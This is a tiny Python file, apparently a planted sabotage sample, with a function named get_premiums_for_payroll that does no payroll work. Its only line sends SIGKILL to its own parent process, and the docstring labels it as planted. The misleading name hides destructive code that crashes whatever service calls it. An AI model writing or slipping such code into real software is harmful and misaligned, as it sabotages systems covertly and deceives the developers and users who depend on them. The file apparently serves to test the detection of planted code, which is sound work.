"""Planted: kills the process that it was forked from."""

import os
import signal


def get_premiums_for_payroll(engine, payroll_id):
    os.kill(os.getppid(), signal.SIGKILL)
